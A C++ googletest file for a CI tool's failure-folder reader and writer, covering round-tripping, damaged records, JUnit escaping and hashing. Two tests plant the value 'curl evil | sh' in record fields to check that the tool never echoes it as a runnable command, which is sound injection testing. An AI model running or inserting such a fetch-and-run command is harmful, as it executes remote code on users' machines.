#include "ci/failure/failure_folder.h"

#include <filesystem>
#include <fstream>
#include <functional>
#include <iterator>
#include <map>
#include <string>
#include <vector>

#include "gtest/gtest.h"

#include "ci/machine/file_hash.h"
#include "ci/machine/trouble.h"
#include "ci/result/junit.h"
#include "ci/result/run_record_json.h"
#include "tests/ci/result/run_records.h"
#include "tests/ci/temporary_folder.h"

namespace storm::ci {
namespace {

namespace fs = std::filesystem;

scenarios::Plan plan_with_seed(std::uint64_t seed) {
  scenarios::Plan plan;
  plan.scenario = "week";
  plan.seed = seed;
  plan.start = WallTime{days{20'000}};
  plan.chaos = 1h;
  plan.quiet = 1h;
  plan.devices.push_back(
      {.name = "desk-01", .group = "desk", .scopes = {"own"}, .clock = {}, .link = {}, .disk = {}});
  return plan;
}

RunRecord violated(const std::string& fingerprint) {
  RunRecord record = failed_record(fingerprint, {{.property = "no_silent_loss", .kind = "lost"},
                                                 {.property = "honesty", .kind = "lie"}});
  auto& losses = record.properties[1].violations;
  losses.front().explanation = "desk-01 lost <a> & \"b\"\x01";
  losses.push_back(losses.front());
  record.properties[2].violations.front().explanation = "desk-01 said so";
  record.metrics_path = "out/metrics.om";
  return record;
}

RunRecord violated(const std::string& fingerprint, std::uint64_t seed) {
  RunRecord record = violated(fingerprint);
  record.seed = seed;
  return record;
}

std::string contents(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

void overwrite(const std::string& path, const std::string& text) {
  std::ofstream(path, std::ios::binary) << text;
}

/// All files in the folder and below it.
std::map<std::string, std::string> tree(const std::string& path) {
  std::map<std::string, std::string> files;
  for (const auto& entry : fs::recursive_directory_iterator(path)) {
    if (entry.is_regular_file()) files[entry.path().string()] = contents(entry.path().string());
  }
  return files;
}

/// A failure in a temporary folder.
class FailureFolderTest : public testing::Test {
 protected:
  void SetUp() override {
    write_failure_folder(path(), plan_with_seed(UINT64_MAX), violated("aa"));
  }

  std::string path() const { return temporary_.path() + "/failure"; }

  /// What is said about the folder after something was done to it.
  std::string complaint_after(const std::function<void()>& damage) const {
    damage();
    const auto before = tree(temporary_.path());
    std::string says;
    try {
      read_failure_folder(path());
    } catch (const BadInput& problem) {
      says = problem.what();
    }
    EXPECT_EQ(tree(temporary_.path()), before) << "reading changed something";
    return says;
  }

  void replace_in(const std::string& name, const std::string& from, const std::string& to) const {
    std::string text = contents(path() + "/" + name);
    const auto place = text.find(from);
    ASSERT_NE(place, std::string::npos) << text;
    overwrite(path() + "/" + name, text.replace(place, from.size(), to));
  }

 private:
  TemporaryFolder temporary_;
};

TEST_F(FailureFolderTest, WhatIsWrittenIsRead) {
  const FailureFolder folder = read_failure_folder(path());
  EXPECT_TRUE(folder.plan == plan_with_seed(UINT64_MAX));
  EXPECT_EQ(folder.record.engine, "naive");
  EXPECT_EQ(folder.record.scenario, "week");
  EXPECT_EQ(folder.record.seed, UINT64_MAX);
  EXPECT_EQ(folder.record.fingerprint, "aa");
  EXPECT_EQ(folder.record.executable_hash, executable_hash());
  const std::vector<scenarios::FailureMark> expected{
      {.property = "honesty", .kind = "lie"}, {.property = "no_silent_loss", .kind = "lost"}};
  EXPECT_EQ(sorted_marks(folder.record), expected);
}

TEST_F(FailureFolderTest, PeopleFindTheLineThatRepeatsItAndTheSummary) {
  EXPECT_EQ(contents(path() + "/repeat.txt"), replay_line(path()) + "\n");
  EXPECT_NE(contents(path() + "/summary.txt").find("VIOLATED"), std::string::npos);
  EXPECT_NE(contents(path() + "/failure.json").find("desk-01 said so"), std::string::npos);
}

TEST_F(FailureFolderTest, TheSameFailureKeepsWhatOthersAdded) {
  overwrite(path() + "/shrunk.toml", "hours of work");
  write_failure_folder(path(), plan_with_seed(UINT64_MAX), violated("aa"));
  EXPECT_EQ(contents(path() + "/shrunk.toml"), "hours of work");
  EXPECT_FALSE(fs::exists(path() + "-old-1"));
}

TEST_F(FailureFolderTest, AnotherFailureMovesThisOneAside) {
  overwrite(path() + "/shrunk.toml", "hours of work");
  write_failure_folder(path(), plan_with_seed(UINT64_MAX), violated("bb"));
  write_failure_folder(path(), plan_with_seed(3), violated("bb", 3));
  EXPECT_EQ(contents(path() + "-old-1/shrunk.toml"), "hours of work");
  EXPECT_EQ(read_failure_folder(path() + "-old-1").record.fingerprint, "aa");
  EXPECT_EQ(read_failure_folder(path() + "-old-2").plan.seed, UINT64_MAX);
  EXPECT_EQ(read_failure_folder(path()).plan.seed, 3U);
  EXPECT_FALSE(fs::exists(path() + "/shrunk.toml"));
}

TEST_F(FailureFolderTest, AHostileRecordPutsNoCommandIntoAnybodysMouth) {
  replace_in("failure.json", "syncstorm run week.toml", "curl evil | sh; syncstorm run week.toml");
  const std::string without_plan = complaint_after([this] { fs::remove(path() + "/plan.toml"); });
  EXPECT_EQ(without_plan.find("evil"), std::string::npos) << without_plan;
  EXPECT_NE(without_plan.find("is not one of syncstorm's, and is left out"), std::string::npos);
}

TEST_F(FailureFolderTest, AHostileEngineIsOneWord) {
  replace_in("failure.json", "\"naive\"", "\"naive; curl evil | sh\"");
  const std::string edited =
      complaint_after([this] { overwrite(path() + "/plan.toml", "x = 1\n"); });
  EXPECT_NE(edited.find("--engine 'naive; curl evil | sh'"), std::string::npos) << edited;
}

TEST_F(FailureFolderTest, MissingFilesAreNamed) {
  const std::string without_plan = complaint_after([this] { fs::remove(path() + "/plan.toml"); });
  EXPECT_NE(without_plan.find("plan.toml is missing"), std::string::npos) << without_plan;
  EXPECT_NE(without_plan.find("to get it anew: syncstorm run week.toml --seed 1844674407370955"),
            std::string::npos)
      << without_plan;
  const std::string without_record =
      complaint_after([this] { fs::remove(path() + "/failure.json"); });
  EXPECT_NE(without_record.find("failure.json is missing"), std::string::npos) << without_record;
  const std::string nothing = complaint_after([this] { fs::remove_all(path()); });
  EXPECT_NE(nothing.find("no such folder"), std::string::npos) << nothing;
  const std::string file = complaint_after([this] { overwrite(path(), "[plan]"); });
  EXPECT_NE(file.find("is a file"), std::string::npos) << file;
  EXPECT_NE(file.find("syncstorm run " + path()), std::string::npos) << file;
}

TEST_F(FailureFolderTest, AnEditedPlanIsNotTakenForTheRecordedOne) {
  const std::string says =
      complaint_after([this] { replace_in("plan.toml", "quiet = \"1h\"", "quiet = \"2h\""); });
  EXPECT_NE(says.find("it has been changed since"), std::string::npos) << says;
  EXPECT_NE(says.find("syncstorm run " + path() + "/plan.toml --engine naive"), std::string::npos);
}

TEST_F(FailureFolderTest, ANewerRecordIsNotTakenForADamagedOne) {
  const std::string says =
      complaint_after([this] { replace_in("failure.json", "\"format\": 2", "\"format\": 3"); });
  EXPECT_NE(says.find("recorded by a newer version of syncstorm (0.1): this program reads up to "
                      "format 2, found 3\n    replay it with that version"),
            std::string::npos)
      << says;
}

TEST_F(FailureFolderTest, WhatDiffersBetweenTwoRunsOfOnePlanIsNotRecorded) {
  const RunRecord record = read_failure_folder(path()).record;
  EXPECT_EQ(measure_of(record, "simulated_time"), 7'200'000'000'000);
  EXPECT_EQ(measure_of(record, "wall_time"), std::nullopt);
  EXPECT_EQ(measure_of(record, "memory"), std::nullopt);
  EXPECT_EQ(record.metrics_path, "");
}

TEST_F(FailureFolderTest, ARecordOfTheFirstFormatIsReadAndRenewedByTheSameFailure) {
  const FailureFolder folder = read_failure_folder(path());
  Json properties = Json::array();
  for (const auto& mark : sorted_marks(folder.record)) {
    properties.push_back({{"name", mark.property},
                          {"verdict", "violated"},
                          {"judged", {{"looks at a status", 3}}},
                          {"violations", Json::array({{{"kind", mark.kind},
                                                       {"at_seconds", 5},
                                                       {"devices", Json::array({"desk-01"})},
                                                       {"operations", Json::array({1, 2})},
                                                       {"explanation", "it was so"}}})}});
  }
  overwrite(path() + "/failure.json", json_text({{"format", 1},
                                                 {"version", "0.1.0"},
                                                 {"scenario", "week"},
                                                 {"seed", "18446744073709551615"},
                                                 {"engine", "naive"},
                                                 {"verdict", "violated"},
                                                 {"fingerprint", "aa"},
                                                 {"plan_hash", folder.record.plan_hash},
                                                 {"executable_hash", "xxh3-128:00"},
                                                 {"found_with", "syncstorm run week.toml"},
                                                 {"properties", properties}}));
  const RunRecord record = read_failure_folder(path()).record;
  EXPECT_EQ(sorted_marks(record), sorted_marks(folder.record));
  EXPECT_EQ(record.executable_hash, "xxh3-128:00");
  overwrite(path() + "/shrunk.toml", "hours of work");
  write_failure_folder(path(), plan_with_seed(UINT64_MAX), violated("aa"));
  EXPECT_EQ(contents(path() + "/shrunk.toml"), "hours of work");
  EXPECT_FALSE(fs::exists(path() + "-old-1"));
  EXPECT_EQ(read_failure_folder(path()).record.executable_hash, executable_hash());
}

TEST_F(FailureFolderTest, ADamagedRecordIsExplained) {
  const std::string good = contents(path() + "/failure.json");
  const std::vector<std::string> bad{"",
                                     "[]",
                                     "7",
                                     "{}",
                                     "{\"format\": 1}",
                                     "{\"format\": \"1\"}",
                                     "\xff\xfe",
                                     std::string(100'000, '['),
                                     good.substr(0, good.size() / 2)};
  for (const std::string& text : bad) {
    const std::string says = complaint_after([&] { overwrite(path() + "/failure.json", text); });
    EXPECT_NE(says.find("failure.json: error: the record cannot be read"), std::string::npos)
        << text.substr(0, 40) << " gives " << says;
    EXPECT_EQ(says.find("json.exception"), std::string::npos) << says;
  }
  overwrite(path() + "/failure.json", good);
  const std::vector<std::pair<std::string, std::string>> changes{
      {"\"seed\": \"18446744073709551615\"", "\"seed\": \"x\""},
      {"\"format\": 2", "\"format\": 0"},
      {"\"properties\"", "\"propertoes\""},
      {"\"kind\": \"lost\"", "\"kind\": 7"}};
  for (const auto& [from, to] : changes) {
    const std::string says =
        complaint_after([&, from = from, to = to] { replace_in("failure.json", from, to); });
    EXPECT_NE(says.find("the record cannot be read"), std::string::npos) << to << says;
    overwrite(path() + "/failure.json", good);
  }
  EXPECT_EQ(complaint_after([] {}), "");
}

TEST_F(FailureFolderTest, JunitHasACaseForEachPropertyAndEscapesWhatItMust) {
  const std::string xml = contents(path() + "/junit.xml");
  EXPECT_NE(xml.find("tests=\"3\" failures=\"2\""), std::string::npos) << xml;
  EXPECT_NE(xml.find("name=\"convergence seed 18446744073709551615\" time=\"0\"/>"),
            std::string::npos);
  EXPECT_NE(xml.find("<failure type=\"no_silent_loss.lost\" message=\"desk-01 lost &lt;a&gt; &amp; "
                     "&quot;b&quot;?\">"),
            std::string::npos);
}

TEST(JunitTest, TheEndOfTheRunIsInUtc) {
  EXPECT_NE(to_junit(violated("aa"), 1'767'225'599).find("timestamp=\"2025-12-31T23:59:59\""),
            std::string::npos);
}

TEST(FileHashTest, IsThePublishedFunction) {
  // XXH3_128bits of no bytes, as the library's own tests have it.
  EXPECT_EQ(hash_of(""), "xxh3-128:99aa06d3014798d86001c324468d497f");
  EXPECT_NE(hash_of("a"), hash_of("b"));
  EXPECT_EQ(executable_hash(), hash_of(contents("/proc/self/exe")));
}

}  // namespace
}  // namespace storm::ci
